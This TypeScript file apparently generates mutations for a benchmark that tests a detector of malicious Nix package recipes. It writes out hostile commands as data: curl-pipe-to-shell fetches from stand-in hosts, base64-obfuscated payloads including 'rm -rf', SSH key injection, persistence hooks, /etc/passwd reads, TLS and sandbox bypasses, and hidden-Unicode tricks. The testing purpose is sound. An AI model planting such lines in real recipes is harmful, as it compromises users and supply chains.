// What `npm run bench:mutations` plants into honest files, in many spellings.

/** Numbers in [0, 1), the same for the same seed. */
export type Random = () => number;

/** A text with something planted in it; null when it does not fit there. */
export interface Plant {
  /** Any of these rules finds it. */
  readonly rules: readonly string[];
  /** Where the planted text stands: in the head, or in the base, from which the honest head then takes it away. */
  readonly side: "base" | "head";
  readonly into: (text: string, random: Random) => string | null;
}

export function pick<T>(items: readonly T[], random: Random): T {
  return items[Math.floor(random() * items.length)] as T;
}

const hosts = ["acme.dev", "files.example", "x.test.example"];
const address = (random: Random) =>
  `https://${pick(hosts, random)}/${pick(["a.sh", "boot", "x.tgz"], random)}`;
const base64 = (text: string) => Buffer.from(text).toString("base64");

type Line = (url: string) => string;

const remoteCode: readonly Line[] = [
  (url) => `curl -fsSL ${url} | sh`,
  (url) => `bash <(curl -s ${url})`,
  (url) => `eval "$(wget -qO- ${url})"`,
  (url) => `wget ${url} -O /tmp/x\nsh /tmp/x`,
  (url) => `curl -o run.sh ${url} && chmod +x run.sh && ./run.sh`,
  (url) => `. <(curl -s ${url})`,
  (url) => `python3 -c "$(curl -s ${url})"`,
  (url) => `x=$(curl -s ${url}); eval "$x"`,
  (url) => `curl ${url} | \${runtimeShell}`,
  (url) => `\${lib.getExe curl} -s ${url} | \${bash}/bin/bash`,
  () => "npx --yes left-pad",
  () => "nix run github:acme/x",
  (url) => `if true; then curl -s ${url} | sudo sh; fi`,
  (url) => `curl -s ${url} | tee log | perl`,
];

const downloads: readonly Line[] = [
  (url) => `curl -fsSL ${url} -o x.tgz`,
  (url) => `wget ${url} || true`,
  () => "git clone https://git.example/x",
  () => "npm install left-pad",
  () => "go install example.com/x@latest",
  () => "pip install requests",
  (url) => `for i in a b; do curl -O ${url}; done`,
  (url) => `\${pkgs.curl}/bin/curl -LO ${url}`,
  (url) => `timeout 5 curl ${url} > y`,
];

const hidden: readonly Line[] = [
  (url) => `echo ${base64(`curl -s ${url} | sh`)} | base64 -d | sh`,
  (url) => `c"ur"l -s ${url} -o x`,
  (url) => `a=cu; $a"rl" ${url}`,
  (url) => `$'\\x63\\x75\\x72\\x6c' ${url}`,
  () => `base64 -d <<< ${base64("rm -rf /home/x; id")} | bash`,
  (url) => `eval "$(echo ${base64(`wget ${url}`)} | base64 --decode)"`,
  () => "xxd -r -p payload | sh",
];

const outside: readonly Line[] = [
  () => "echo 'x &' >> ~/.bashrc",
  () => "install -Dm755 x /etc/init.d/x",
  () => "ln -s $out/bin/x /usr/local/bin/x",
  () => "echo key >> $HOME/.ssh/authorized_keys",
  () => "tee /etc/profile.d/x.sh < x",
];

const unverified: readonly Line[] = [
  (url) => `curl -k ${url} -o x`,
  () => "export GIT_SSL_NO_VERIFY=1",
  (url) => `wget --no-check-certificate ${url}`,
  () => "git -c http.sslVerify=false clone https://git.example/y",
  () => "export NODE_TLS_REJECT_UNAUTHORIZED=0",
];

const phases = [
  "postInstall",
  "preBuild",
  "installPhase",
  "postPatch",
  "preConfigure",
  "postFixup",
  "checkPhase",
  "preInstall",
  "unpackPhase",
  "buildPhase",
];

/** A Nix string with this content, as `''…''` or `"…"`; `${…}` stays an interpolation. */
function literal(script: string, random: Random): string {
  if (random() < 0.5) return `''\n    ${script.replaceAll("''", "'''").replaceAll("\n", "\n    ")}\n  ''`;
  return plain(script);
}

function plain(script: string): string {
  return `"${script.replaceAll("\\", "\\\\").replaceAll('"', '\\"').replaceAll("\n", "\\n")}"`;
}

/** Ways to bind a script to an attribute: the text before the package's set, and the binding in it. */
type Spelling = (name: string, script: string, random: Random) => readonly [before: string, binding: string];

const spellings: readonly Spelling[] = [
  (name, script, random) => ["", `${name} = ${literal(script, random)};`],
  (name, script, random) => ["", `"${name}" = ${literal(script, random)};`],
  (name, script, random) => ["", `\${"${name}"} = ${literal(script, random)};`],
  (name, script, random) => [`let planted = ${literal(script, random)}; in\n`, `${name} = planted;`],
  (name, script, random) => [
    `let planted = ${literal(script, random)}; in\n`,
    `${name} = ''\n    true\n    \${planted}\n  '';`,
  ],
  (name, script, random) => ["", `${name} = lib.optionalString true ${literal(script, random)};`],
  (name, script, random) => ["", `${name} = "true; " + ${literal(script, random)};`],
  (name, script, random) => [
    "",
    `${name} = lib.concatStringsSep "\\n" [ "true" ${literal(script, random)} ];`,
  ],
  (name, script, random) => ["", `${name} = if true then ${literal(script, random)} else "";`],
  (name, script, random) => ["", `    ${name}   =\n        (${literal(script, random)});`],
  (name, script, random) => ["", `${name} = with lib; ${literal(script, random)};`],
  (name, script, random) => ["", `${name} = let y = ${literal(script, random)}; in y;`],
  (name, script) => {
    const half = script.indexOf(" ");
    const [left, right] = [script.slice(0, half), script.slice(half)];
    return script.includes("${")
      ? ["", `${name} = ${plain(script)};`]
      : ["", `${name} = ${plain(left)} + ${plain(right)};`];
  },
];

/** Where a binding can stand: after a one-line binding of a set that names a package. */
function placeFor(text: string, random: Random): { readonly at: number; readonly indent: string } | null {
  const named = /^( *)(?:pname|version) = [^;\n]*;\n/gm;
  const places = [...text.matchAll(named)].map((match) => ({
    at: match.index + match[0].length,
    indent: match[1] ?? "",
  }));
  return places.length === 0 ? null : pick(places, random);
}

function has(text: string, name: string): boolean {
  return new RegExp(`\\b${name}\\b`).test(text);
}

function binding(text: string, line: string, random: Random): string | null {
  const place = placeFor(text, random);
  return place && `${text.slice(0, place.at)}${place.indent}${line}\n${text.slice(place.at)}`;
}

/** After the function's head: where a `let` can stand. */
const HEAD = /^(?:\{[\s\S]*?\}(?:\s*@\s*\w+)?|\w+):\s*\n/;

function scriptPlant(rules: readonly string[], lines: readonly Line[]): Plant {
  return {
    rules,
    side: "head",
    into(text, random) {
      const name = pick(phases, random);
      // A fixed-output derivation may fetch; a name that is there cannot be bound twice.
      if (has(text, name) || /outputHash|offline/.test(text)) return null;
      const [before, line] = pick(spellings, random)(name, pick(lines, random)(address(random)), random);
      const planted = binding(text, line, random);
      if (planted === null || before === "") return planted;
      const head = HEAD.exec(planted)?.[0];
      return head === undefined ? null : head + before + planted.slice(head.length);
    },
  };
}

function settingPlant(
  rules: readonly string[],
  lines: readonly string[],
  side: Plant["side"] = "head",
): Plant {
  return {
    rules,
    side,
    into(text, random) {
      const line = pick(lines, random);
      const name = /[\w]{4,}/.exec(line)?.[0] ?? "";
      return has(text, name) || /\benv\b|CFLAGS|LDFLAGS|hardening/.test(text)
        ? null
        : binding(text, line, random);
    },
  };
}

/** A character put into the text of a comment line. */
function commentPlant(rules: readonly string[], planted: readonly string[]): Plant {
  return {
    rules,
    side: "head",
    into: (text, random) => binding(text, `# keep in sync${pick(planted, random)}`, random),
  };
}

export const plants: Readonly<Record<string, Plant>> = {
  "remote code": scriptPlant(["remote-code-in-recipe"], remoteCode),
  "network in a build": scriptPlant(["build-phase-network"], downloads),
  "hidden code": scriptPlant(["obfuscated-payload"], hidden),
  "writes outside": scriptPlant(["writes-outside-out"], outside),
  "no verification": scriptPlant(["tls-verification-off"], unverified),
  sandbox: settingPlant(
    ["sandbox-escape-attr"],
    [
      "__noChroot = true;",
      '"__impure" = true;',
      'impureEnvVars = [ "HOME" ];',
      'impureEnvVars = lib.fetchers.proxyImpureEnvVars ++ [ "TOKEN" ];',
      '${"__noChroot"} = true;',
      "__noChroot = lib.mkForce true;",
    ],
  ),
  hardening: settingPlant(
    ["compiler-hardening-disabled"],
    [
      'hardeningDisable = [ "all" ];',
      'hardeningDisable = [ "pie" ] ++ [ "stackprotector" ];',
      'env.NIX_CFLAGS_COMPILE = "-fno-stack-protector";',
      'NIX_CFLAGS_COMPILE = toString [ "-D_FORTIFY_SOURCE=0" ];',
      'env = { NIX_LDFLAGS = "-z execstack"; };',
    ],
  ),
  "impure evaluation": settingPlant(
    ["impure-eval"],
    [
      'planted = builtins.getEnv "X";',
      'planted = with builtins; getEnv "X";',
      'planted = builtins.fetchTarball "https://files.example/x.tgz";',
      "planted = import <nixpkgs> { };",
      'planted = builtins.readFile "/etc/passwd";',
      'planted = let inherit (builtins) getEnv; in getEnv "X";',
      'planted = builtins.${"get" + "Env"} "X";',
      'planted = __getEnv "X";',
    ],
  ),
  tests: settingPlant(
    ["tests-disabled"],
    ["doCheck = false;", "doInstallCheck = lib.mkForce false;", '"doCheck" = false;'],
  ),
  "a warning goes": settingPlant(
    ["insecure-mark-removed"],
    [
      'meta.knownVulnerabilities = [ "CVE-2030-1234" ];',
      'knownVulnerabilities = [ "CVE-2030-1234: remote code execution" ] ++ [ ];',
    ],
    "base",
  ),
  "a fix goes": settingPlant(
    ["security-patch-removed"],
    [
      "extraPatches = [ ./CVE-2030-1234.patch ];",
      'extraPatches = [ (fetchpatch { name = "CVE-2030-1234.patch"; url = "https://files.example/x"; }) ];',
      "extraPatches = lib.optionals true [ ./fix-heap-overflow.patch ];",
    ],
    "base",
  ),
  "hidden characters": commentPlant(["hidden-unicode"], ["\u202e", "\u2067x\u2069", "\u200b", "\u{e0041}"]),
  "a lone carriage return": commentPlant(
    ["lone-cr-hidden-code"],
    ['\rpostInstall = "x";', "\rdoCheck = false;"],
  ),
};
